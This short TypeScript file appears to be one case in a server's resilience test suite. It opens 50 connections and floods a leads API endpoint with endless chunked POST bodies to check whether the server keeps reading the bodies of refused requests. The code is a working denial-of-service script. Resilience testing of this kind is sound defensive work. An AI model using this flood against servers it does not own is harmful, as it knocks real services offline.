import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack } from '../attack.js';

const CONNECTIONS = 50;
const MIB = 1024 * 1024;
const CHUNK = Buffer.from(`${MIB.toString(16)}\r\n${'x'.repeat(MIB)}\r\n`);

/** Node.js reads the rest of a body whose request is refused. */
export const attack: Attack = {
  title: 'a stranger sends bodies without an end on 50 connections',
  run: async ({ host, port }) => {
    const signal = AbortSignal.timeout(8_000);
    const sockets = Array.from({ length: CONNECTIONS }, () =>
      connect(port, host)
        .on('error', () => undefined)
        .resume(),
    );
    await Promise.all(sockets.map((socket) => pour(socket, host, signal)));
    for (const socket of sockets) socket.destroy();
    await sleep(100);
  },
};

async function pour(socket: Socket, host: string, signal: AbortSignal): Promise<void> {
  const head = `POST /api/v1/leads HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\n`;
  socket.write(`${head}Transfer-Encoding: chunked\r\n\r\n`);
  while (!signal.aborted && !socket.destroyed && socket.writable) {
    const isFull = !socket.write(CHUNK);
    if (isFull) await Promise.race([once(socket, 'drain'), once(socket, 'close'), sleep(8_000)]).catch(() => undefined);
  }
}
